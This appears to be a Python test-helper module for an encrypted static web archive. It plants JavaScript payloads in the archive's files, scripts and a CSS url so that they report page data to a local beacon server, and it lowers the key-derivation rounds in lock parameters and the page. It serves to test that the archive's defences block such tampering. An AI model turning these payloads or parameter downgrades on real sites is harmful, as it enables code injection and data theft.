"""What somebody does to a locked archive who can write to its folder but not to its index.html: code in every file that a page
could be brought to run, and other parameters. A server counts whatever comes out."""

import functools
import http.server
import shutil
import threading


class Beacon:
    """Counts requests: nothing may reach it."""

    def __init__(self):
        self.heard, self.controls = heard, controls = [], []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                (controls if self.path.startswith("/control") else heard).append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def serve(folder):
    """Serves a folder as any host does; returns its address."""

    class Handler(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Handler, directory=str(folder)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return f"http://127.0.0.1:{server.server_port}"


def code(url, place):
    """Tells the beacon that it ran, and what it could take."""
    return (
        f"(() => {{ const seen = '{url}/{place}?' + encodeURIComponent(typeof keys + document.title);"
        "globalThis.ranAnyway = true; document.title = 'taken'; fetch(seen, { method: 'POST' }).catch(() => {});"
        "new Image().src = seen; location.hash = 'taken'; })();\n")


def control(folder, url):
    """A page without any policy that runs the same code: shows that the beacon hears."""
    folder.mkdir(exist_ok=True)
    (folder / "run.js").write_text(code(url, "control"))
    (folder / "index.html").write_text("<!doctype html><title>control</title><script src='run.js'></script>")
    return folder / "index.html"


def plant(locked, folder, name, url):
    """A copy of the archive whose piece of this name is code, as a piece, as a script, as a page; with scripts and parameters of
    the attacker's beside index.html, which is as it was."""
    shutil.copytree(locked, folder)
    piece = folder / "sealed" / name[:2]
    inside = code(url, "piece")
    (piece / f"{name}.bin").write_text(inside)
    (piece / f"{name[2:]}.js").write_text(f'{inside}zuttoSealed("{name}","AAAA");\n')
    for script in ("lock.js", "unlock.js", "sealed.js"):
        (folder / script).write_text(code(url, script) + 'globalThis.zuttoLocked?.({rounds: 1, salt: "00", check: "00"});\n')
    (folder / "lock.json").write_text('{"version":2,"kdf":"PBKDF2-HMAC-SHA-256","rounds":1,"salt":"00","check":"00"}\n')
    (folder / "unlock.css").write_text(f"body {{ background: url({url}/style) }}")


def cheapen(locked, folder, rounds):
    """A copy of the archive whose page asks for another number of rounds."""
    shutil.copytree(locked, folder)
    page = folder / "index.html"
    before = page.read_text()
    after = before.replace('"rounds":1000000', f'"rounds":{rounds}')
    assert after != before
    page.write_text(after)
